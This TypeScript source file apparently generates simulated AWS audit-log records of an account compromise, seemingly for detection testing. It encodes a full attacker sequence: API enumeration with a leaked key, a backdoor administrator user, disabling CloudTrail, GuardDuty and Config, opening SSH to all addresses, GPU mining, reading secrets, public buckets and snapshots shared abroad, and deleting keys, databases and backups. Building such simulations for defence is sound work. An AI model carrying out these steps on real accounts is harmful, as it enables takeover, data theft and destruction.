import { FOREIGN_ACCOUNT } from '../fixtures/accounts';
import { Caller, callOnBehalf } from '../fixtures/callers';
import { formatLongTime } from '../fixtures/time-formats';
import { Operation, Location } from '../operation';
import { createDenial, Invocation } from '../record';
import { AttackIdentities } from './identities';
import { AUTO_SCALING, CLOUDFORMATION, ECR, ECS, LAMBDA, LOAD_BALANCING } from '../services/compute';
import { ATHENA, DYNAMODB, EVENTS, GLUE, RDS, SNS, SQS } from '../services/data';
import { EC2, createItemSet, createOpenPortRequest } from '../services/ec2';
import { ACCOUNT, IAM, ORGANIZATIONS, SIGN_IN, STS } from '../services/iam';
import {
  CLOUDTRAIL, CLOUDWATCH, CONFIG, COST_EXPLORER, DETECTOR, EKS, EMAIL, GUARDDUTY, LOGS, QUOTAS, ROUTE53, SECURITY_HUB, TRAIL,
} from '../services/monitoring';
import { createBucketRequest, S3 } from '../services/s3';
import { KMS, SECRETS, SSM } from '../services/secrets';

/** How often the list is gone through. */
const ROUNDS = 3;
/** What the leaked key may do: its work, and, by an oversight, IAM. */
const ALLOWED = new Set(['iam', 'sts', 'athena', 'glue']);

const ENUMERATED: readonly Operation[] = [
  S3.ListBuckets, EC2.DescribeInstances, EC2.DescribeRegions, EC2.DescribeSecurityGroups, EC2.DescribeVpcs, EC2.DescribeSubnets,
  EC2.DescribeSnapshots, EC2.DescribeVolumes, EC2.DescribeImages, EC2.DescribeKeyPairs, EC2.DescribeAddresses, EC2.DescribeRouteTables,
  EC2.DescribeNetworkInterfaces, EC2.DescribeLaunchTemplates, EC2.DescribeFlowLogs, IAM.ListUsers, IAM.ListRoles, IAM.ListGroups,
  IAM.ListPolicies, IAM.GetAccountSummary, IAM.GetAccountAuthorizationDetails, IAM.ListAccountAliases, STS.GetCallerIdentity,
  LAMBDA.ListFunctions20150331, RDS.DescribeDBInstances, RDS.DescribeDBClusters, RDS.DescribeDBSnapshots, SECRETS.ListSecrets,
  SSM.DescribeParameters, SSM.DescribeInstanceInformation, KMS.ListKeys, KMS.ListAliases, DYNAMODB.ListTables, SQS.ListQueues,
  SNS.ListTopics, ECS.ListClusters, ECR.DescribeRepositories, EKS.ListClusters, ROUTE53.ListHostedZones, CLOUDFORMATION.ListStacks,
  CLOUDTRAIL.DescribeTrails, CLOUDTRAIL.LookupEvents, CLOUDWATCH.DescribeAlarms, CONFIG.DescribeConfigurationRecorders,
  GUARDDUTY.ListDetectors, SECURITY_HUB.DescribeHub, LOGS.DescribeLogGroups, ORGANIZATIONS.DescribeOrganization,
  ORGANIZATIONS.ListAccounts, EMAIL.GetAccount, EMAIL.GetSendQuota, EMAIL.ListIdentities, QUOTAS.ListServiceQuotas,
  COST_EXPLORER.GetCostAndUsage, EVENTS.ListRules, GLUE.GetDatabases, ATHENA.ListWorkGroups, AUTO_SCALING.DescribeAutoScalingGroups,
  LOAD_BALANCING.DescribeLoadBalancers, ACCOUNT.GetContactInformation,
];

/** A tool tries what the key may do, all at once. */
export function enumerate({ random }: Location, caller: Caller): Invocation[] {
  const tries = Array.from({ length: ROUNDS }, () => ENUMERATED).flat().filter(() => random.chance(0.95));
  return tries.map((operation) => ({ operation, caller, ...!ALLOWED.has(operation.source) && { failure: createDenial(operation) } }));
}

const ADMINISTRATOR = 'arn:aws:iam::aws:policy/AdministratorAccess';
const LOGIN = { LoginTo: 'https://console.aws.amazon.com/console/home', MobileVersion: 'No', MFAUsed: 'No' };
const XMLNS = 'http://s3.amazonaws.com/doc/2006-03-01/';

/** A user with every right is made with the leaked key. */
export function createAdministrator({ account }: Location, { leaked: caller, backdoor }: AttackIdentities, time: number): Invocation[] {
  const own = { userName: account.users.reports.name };
  const userName = backdoor.name;
  const user = {
    path: '/', userName, userId: backdoor.id, arn: `arn:aws:iam::${account.id}:user/${userName}`, createDate: formatLongTime(time),
  };
  return [
    { operation: IAM.ListAttachedUserPolicies, caller, request: own },
    { operation: IAM.ListUserPolicies, caller, request: own },
    { operation: IAM.ListGroupsForUser, caller, request: own },
    { operation: IAM.CreateUser, caller, request: { path: '/', userName }, response: { user } },
    {
      operation: IAM.CreateAccessKey,
      caller,
      request: { userName },
      response: { accessKey: { userName, accessKeyId: backdoor.accessKey, status: 'Active', createDate: formatLongTime(time) } },
    },
    { operation: IAM.AttachUserPolicy, caller, request: { userName, policyArn: ADMINISTRATOR } },
    { operation: IAM.CreateLoginProfile, caller, request: { userName, passwordResetRequired: false } },
  ];
}

/** Passwords are guessed, and then there is one that is known. */
export function signIn({ account }: Location, { signIn, backdoor }: AttackIdentities): Invocation[] {
  const user = (userName: string, id: string): Caller => signIn({
    type: 'IAMUser', principalId: id, arn: `arn:aws:iam::${account.id}:user/${userName}`, accountId: account.id, userName,
  });
  const unknown = signIn({ type: 'IAMUser', accountId: account.id, accessKeyId: '', userName: 'HIDDEN_DUE_TO_SECURITY_REASONS' });
  const root = signIn({
    type: 'Root',
    principalId: account.id,
    arn: `arn:aws:iam::${account.id}:root`,
    accountId: account.id,
    accessKeyId: '',
  });
  const failed = (caller: Caller, message: string): Invocation => (
    { operation: SIGN_IN.ConsoleLogin, caller, failure: { message }, response: { ConsoleLogin: 'Failure' }, extra: LOGIN }
  );
  const { operator } = account.users;
  return [
    ...Array.from({ length: 7 }, () => failed(user(operator.name, operator.id), 'Failed authentication')),
    ...Array.from({ length: 4 }, () => failed(unknown, 'No username found in supplied account')),
    failed(root, 'Failed authentication'),
    { operation: SIGN_IN.ConsoleLogin, caller: user(backdoor.name, backdoor.id), extra: LOGIN },
  ];
}

/** What watches the account is switched off. */
export function disableMonitoring({ account, region, resources }: Location, { withBackdoorKey: caller }: AttackIdentities): Invocation[] {
  const trailARN = `arn:aws:cloudtrail:${region}:${account.id}:trail/${TRAIL}`;
  const narrowed = { name: TRAIL, includeGlobalServiceEvents: false, isMultiRegionTrail: false };
  return [
    { operation: CLOUDTRAIL.DescribeTrails, caller },
    { operation: CLOUDTRAIL.GetTrailStatus, caller },
    {
      operation: CLOUDTRAIL.UpdateTrail,
      caller,
      request: narrowed,
      response: { ...narrowed, trailARN, logFileValidationEnabled: false, isOrganizationTrail: false },
    },
    { operation: CLOUDTRAIL.StopLogging, caller, request: { name: trailARN } },
    { operation: CONFIG.DescribeConfigurationRecorders, caller },
    { operation: CONFIG.StopConfigurationRecorder, caller, request: { configurationRecorderName: 'default' } },
    { operation: GUARDDUTY.ListDetectors, caller },
    { operation: GUARDDUTY.DeleteDetector, caller, request: { detectorId: DETECTOR } },
    { operation: SECURITY_HUB.DisableSecurityHub, caller },
    { operation: EC2.DescribeFlowLogs, caller },
    ...resources.flowLogs.map((content): Invocation => (
      { operation: EC2.DeleteFlowLogs, caller, request: { DeleteFlowLogsRequest: { FlowLogId: { tag: 1, content } } } }
    )),
  ];
}

/** What the account does about its trail by itself. */
export function restartTrail({ account, region }: Location, caller: Caller): Invocation[] {
  return [{ operation: CLOUDTRAIL.StartLogging, caller, request: { name: `arn:aws:cloudtrail:${region}:${account.id}:trail/${TRAIL}` } }];
}

/** What the start-up scripts of all instances hold. */
export function readUserData({ resources }: Location, { withBackdoorKey: caller }: AttackIdentities): Invocation[] {
  return [
    { operation: EC2.DescribeInstances, caller },
    ...resources.instances.map(({ id: instanceId }): Invocation => (
      { operation: EC2.DescribeInstanceAttribute, caller, request: { instanceId, attribute: 'userData' } }
    )),
  ];
}

/** A way into the network. */
export function openNetwork({ random, resources }: Location, caller: Caller): Invocation[] {
  const [groupId] = resources.groups;
  return [
    { operation: EC2.DescribeSecurityGroups, caller },
    { operation: EC2.AuthorizeSecurityGroupIngress, caller, request: createOpenPortRequest(groupId, 22, '0.0.0.0/0') },
    { operation: EC2.CreateKeyPair, caller, request: { keyName: 'sync-key', keyType: 'ed25519', keyFormat: 'pem' } },
    {
      operation: SSM.SendCommand,
      caller,
      request: {
        documentName: 'AWS-RunShellScript',
        instanceIds: resources.instances.slice(0, 3).map(({ id }) => id),
        parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS',
      },
      response: { command: { commandId: random.uuid(), documentName: 'AWS-RunShellScript', status: 'Pending', targetCount: 3 } },
    },
  ];
}

/** Machines with graphics processors, where nobody looks. */
export function startMining({ random, resources }: Location, { withBackdoorKey: caller }: AttackIdentities): Invocation[] {
  const launch = (instanceType: string, maxCount: number): Invocation => ({
    operation: EC2.RunInstances,
    caller,
    request: {
      instancesSet: createItemSet([{ imageId: resources.images[0], minCount: 1, maxCount, keyName: 'sync-key' }]),
      instanceType,
      blockDeviceMapping: {},
      monitoring: { enabled: false },
      disableApiTermination: true,
      clientToken: random.uuid(),
      userData: '<sensitiveDataRemoved>',
    },
  });
  const limit = {
    code: 'Client.VcpuLimitExceeded',
    message: 'You have requested more vCPU capacity than your current vCPU limit of 64 allows for the instance bucket that the specified '
      + 'instance type belongs to.',
  };
  return [
    { operation: QUOTAS.ListServiceQuotas, caller },
    { operation: EC2.DescribeInstanceTypes, caller },
    { operation: EC2.DescribeImages, caller },
    { ...launch('p5.48xlarge', 4), failure: limit },
    { operation: QUOTAS.RequestServiceQuotaIncrease, caller, request: { serviceCode: 'ec2', quotaCode: 'L-417A185B', desiredValue: 768 } },
    ...[1, 2, 3, 4].map(() => launch('g5.12xlarge', 1)),
    { operation: EC2.DescribeInstances, caller },
  ];
}

/** All secrets, one after the other. */
export function readSecrets({ resources }: Location, { withBackdoorKey: caller }: AttackIdentities): Invocation[] {
  const read = (secretId: string): Invocation[] => [
    { operation: SECRETS.GetSecretValue, caller, request: { secretId } },
    {
      operation: KMS.Decrypt,
      caller: callOnBehalf(caller, 'secretsmanager'),
      request: { encryptionContext: { SecretARN: secretId }, encryptionAlgorithm: 'SYMMETRIC_DEFAULT' },
    },
  ];
  return [
    { operation: SECRETS.ListSecrets, caller },
    ...resources.secrets.flatMap(read),
    ...resources.parameters.map((name): Invocation => ({ operation: SSM.GetParameter, caller, request: { name, withDecryption: true } })),
  ];
}

/** Data is put where others can take it. */
export function exfiltrate(location: Location, caller: Caller): Invocation[] {
  const { account, random, resources } = location;
  const bucket = resources.buckets[2];
  const bucketPolicy = {
    Version: '2012-10-17',
    Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${bucket}/*` }],
  };
  const snapshots = resources.volumes.slice(0, 2).map((volumeId) => ({ volumeId, snapshotId: `snap-0${random.hex(16)}` }));
  const share = (snapshotId: string, permission: { userId: string } | { group: string }): Invocation => ({
    operation: EC2.ModifySnapshotAttribute,
    caller,
    request: { snapshotId, createVolumePermission: { add: createItemSet([permission]) }, attributeType: 'CREATE_VOLUME_PERMISSION' },
  });
  return [
    { operation: S3.ListBuckets, caller },
    { operation: S3.DeleteBucketPublicAccessBlock, caller, request: createBucketRequest(location, bucket, { publicAccessBlock: '' }) },
    { operation: S3.PutBucketPolicy, caller, request: createBucketRequest(location, bucket, { bucketPolicy, policy: '' }) },
    ...snapshots.map(({ volumeId, snapshotId }): Invocation => ({
      operation: EC2.CreateSnapshot,
      caller,
      request: { volumeId },
      response: { requestId: random.uuid(), snapshotId, volumeId, status: 'pending', ownerId: account.id, encrypted: false },
    })),
    share(snapshots[0].snapshotId, { userId: FOREIGN_ACCOUNT }),
    share(snapshots[1].snapshotId, { group: 'all' }),
  ];
}

/** What is left is to be gone. */
export function destroy(location: Location, { withBackdoorKey: caller }: AttackIdentities): Invocation[] {
  const { account, resources } = location;
  const [, invoices, , , backups, site] = resources.buckets;
  const LifecycleConfiguration = {
    xmlns: XMLNS,
    Rule: { ID: 'cleanup', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 } },
  };
  const notEmpty = { code: 'BucketNotEmpty', message: 'The bucket you tried to delete is not empty' };
  return [
    { operation: S3.PutBucketLifecycle, caller, request: createBucketRequest(location, backups, { lifecycle: '', LifecycleConfiguration }) },
    {
      operation: S3.PutBucketVersioning,
      caller,
      request: createBucketRequest(location, backups, { versioning: '', VersioningConfiguration: { xmlns: XMLNS, Status: 'Suspended' } }),
    },
    { operation: S3.DeleteBucketEncryption, caller, request: createBucketRequest(location, invoices, { encryption: '' }) },
    { operation: S3.DeleteBucket, caller, request: createBucketRequest(location, invoices), failure: notEmpty },
    { operation: S3.DeleteBucket, caller, request: createBucketRequest(location, site) },
    ...resources.keys.slice(0, 2).map((keyId): Invocation => ({
      operation: KMS.ScheduleKeyDeletion,
      caller,
      request: { keyId, pendingWindowInDays: 7 },
    })),
    {
      operation: RDS.DeleteDBInstance,
      caller,
      request: { dBInstanceIdentifier: resources.databases[1], skipFinalSnapshot: true, deleteAutomatedBackups: true },
      response: { dBInstanceIdentifier: resources.databases[1], dBInstanceStatus: 'deleting', engine: 'postgres' },
    },
    { operation: LOGS.DeleteLogGroup, caller, request: { logGroupName: `/aws/lambda/${resources.functions[0]}` } },
    { operation: CLOUDTRAIL.DeleteTrail, caller, failure: createDenial(CLOUDTRAIL.DeleteTrail) },
    { operation: ORGANIZATIONS.LeaveOrganization, caller, failure: createDenial(ORGANIZATIONS.LeaveOrganization) },
    {
      operation: IAM.DeactivateMFADevice,
      caller,
      request: { userName: account.users.operator.name, serialNumber: `arn:aws:iam::${account.id}:mfa/${account.users.operator.name}` },
    },
    {
      operation: IAM.UpdateAssumeRolePolicy,
      caller,
      request: {
        roleName: 'batch-worker',
        policyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{
            Effect: 'Allow',
            Principal: { AWS: `arn:aws:iam::${FOREIGN_ACCOUNT}:root` },
            Action: 'sts:AssumeRole',
          }],
        }),
      },
    },
  ];
}
